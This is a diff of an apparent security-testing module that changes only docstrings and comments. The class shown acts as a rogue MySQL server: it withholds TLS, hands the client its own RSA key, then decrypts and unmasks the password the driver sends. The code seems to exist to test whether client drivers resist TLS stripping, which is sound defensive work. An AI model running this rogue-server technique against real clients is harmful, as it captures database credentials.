@@ -1,4 +1,4 @@
-"""B3: a server without TLS hands out a key, and the driver sends the password under it."""
+"""B3: a server without TLS provides a key. The driver encrypts the password with it."""
 
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import padding, rsa
@@ -12,7 +12,7 @@ from backwatch.attack.techniques.mysql_tls import ForgetsTls, Stripping
 
 
 class OwnKey(Stripping):
-    """Offers no TLS, but a key of its own to send the password under, once it has turned."""
+    """Offers no TLS, but a key of its own to send the password under, once hostile."""
 
     def __init__(self, authority: Authority, port: int = 0) -> None:
         super().__init__(authority, port)
@@ -29,7 +29,7 @@ class OwnKey(Stripping):
             serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
         )
         wire.send(b"\x01" + public)
-        oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303  what the plugin does
+        oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303  the plugin's protocol requires it
         masked = self._key.decrypt(wire.receive(), oaep)
         self.taken(bytes(a ^ SALT[i % len(SALT)] for i, a in enumerate(masked)).rstrip(b"\0"))
 
